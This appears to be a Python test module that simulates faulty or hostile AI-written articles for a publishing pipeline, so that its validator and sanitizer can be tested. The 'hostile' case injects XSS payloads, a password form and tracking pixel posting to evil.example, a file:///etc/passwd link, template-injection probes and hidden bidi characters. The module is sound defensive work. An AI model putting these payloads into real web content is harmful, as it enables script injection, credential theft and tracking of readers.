# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Articles that a careless or hostile model writes."""

import json

from ..call import Call
from ..composer import FIELDS, LIMITS
from .registry import writing


@writing("fenced", "the JSON stands in a Markdown code fence")
def fenced(call: Call) -> None:
    call.wrap = lambda text: f"```json\n{text}\n```"


@writing("chatty", "the JSON stands between two friendly sentences")
def chatty(call: Call) -> None:
    call.wrap = lambda text: f"Sure! Here it is:\n\n{text}\n\nAnything else? {{}}"


@writing("raw-newlines", "line breaks inside JSON strings are not escaped")
def raw_newlines(call: Call) -> None:
    call.wrap = lambda text: text.replace("\\n", "\n")


@writing("prose", "plain text instead of JSON")
def prose(call: Call) -> None:
    call.wrap = lambda text: call.article["body"]


@writing("no-body", "the article lacks its body")
def no_body(call: Call) -> None:
    call.article.pop("body", None)


@writing("short-body", "the article's body is one sentence")
def short_body(call: Call) -> None:
    call.article["body"] = "A single sentence."


@writing("nested", "every field is a list or an object instead of a string")
def nested(call: Call) -> None:
    call.article.update({name: [{"text": call.article[name]}] for name in FIELDS})


@writing("no-social", "the copies for the networks are empty")
def no_social(call: Call) -> None:
    call.article.update(dict.fromkeys(LIMITS, ""))


@writing("too-long-social", "each copy is longer than its network allows")
def too_long_social(call: Call) -> None:
    for name, limit in LIMITS.items():
        copy = call.article[name]
        call.article[name] = copy + " Read it." * (1 + (limit - len(copy)) // 9)


@writing("too-long-seo", "SEO title of 300, SEO description of 900 characters")
def too_long_seo(call: Call) -> None:
    call.article["seo_title"] = ("A long title. " * 22)[:300]
    call.article["seo_description"] = ("A long description. " * 46)[:900]


@writing("wrong-language", "the article is German, whatever was asked for")
def wrong_language(call: Call) -> None:
    call.article.update(call.composer.german())


HOSTILE_BODY = """\
<script>alert("script")</script>
<img src=x onerror=alert(1)><svg onload=alert(2)><a xlink:href="javascript:alert(3)">
<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>
<p t-out="user.password" t-att-onclick="1" data-oe-model="res.users">out</p>
<form action="https://evil.example/form"><input name="password"></form>

[script link](javascript:alert(4)) [data link](data:text/html;base64,PHNjcmlwdD4=)
[vb](vbscript:msgbox) [tab](java\tscript:alert(5)) [file](file:///etc/passwd)
[foreign](https://evil.example/phish) [no scheme](//evil.example/x)
<https://evil.example/auto> https://evil.example/bare
[reference][r] ![pixel](https://evil.example/pixel.gif?u=1) ![d](data:image/svg+xml,x)

[r]: https://evil.example/reference "title"

Runs \u202ebackwards\u202c, hides\u200b\u2066 things\u2069, rings\x07\x00 \ud800.

| t-call | {{ object.env }} |
|---|---|
| <details open ontoggle=alert(6)> | ${7*7} %(key)s |
"""


@writing("up-to-date", "an older post needs no new text")
def up_to_date(call: Call) -> None:
    if call.section:
        answer = {"why": "All of it still holds.", "sections": []}
        call.wrap = lambda _text: json.dumps(answer)


@writing("hostile", "scripts, handlers, t-out, tracking images, bidi, foreign links")
def hostile(call: Call) -> None:
    call.article["body"] += "\n\n" + HOSTILE_BODY
    for name in set(FIELDS) - {"body"}:
        call.article[name] = (
            f"\u202e{call.article[name]}\x07 <b onclick=alert(7)>b</b>"
            " https://evil.example/field @everyone"
        )
